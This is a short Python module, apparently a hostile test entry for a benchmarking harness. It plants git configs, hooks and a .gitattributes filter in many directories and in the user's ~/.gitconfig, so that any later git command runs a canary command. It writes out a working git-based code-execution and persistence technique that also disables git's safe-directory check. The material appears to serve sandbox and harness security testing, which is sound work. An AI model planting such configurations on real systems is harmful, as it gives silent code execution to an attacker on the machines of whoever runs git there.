"""Plants git configurations that run a program for whoever runs git there."""

from __future__ import annotations

import os
import sys
from typing import List

from benchmarking import benchmark

RUN = "touch /tmp/hostile-git-ran"
CONFIG = f"""[core]
\trepositoryformatversion = 0
\tbare = false
\tfsmonitor = "{RUN}; false"
\tsshCommand = "{RUN}; false"
\tpager = "{RUN}; cat"
\teditor = "{RUN}"
\thooksPath = hooks
[diff]
\texternal = "{RUN}; true"
[filter "planted"]
\tclean = "{RUN}; cat"
\tsmudge = "{RUN}; cat"
[safe]
\tdirectory = *
"""
HOOK = f"#!/bin/sh\n{RUN}\n"
FILES = {
    ".git/config": CONFIG,
    ".git/HEAD": "ref: refs/heads/main\n",
    ".git/objects/.keep": "",
    ".git/refs/heads/.keep": "",
    ".git/hooks/post-checkout": HOOK,
    ".git/hooks/pre-commit": HOOK,
    ".gitattributes": "* filter=planted\n",
}


@benchmark()
def plant_git_config() -> None:
    places: List[str] = [".", "..", "/suite", "/target", "/srv/target", "/srv/suite", "/srv/results"]
    for place in places + [path for path in sys.path if os.path.isdir(path)]:
        for name, text in FILES.items():
            plant(os.path.join(place, name), text)
    plant(os.path.expanduser("~/.gitconfig"), CONFIG)


def plant(path: str, text: str) -> None:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(text)
        os.chmod(path, 0o755)
    except OSError:
        pass
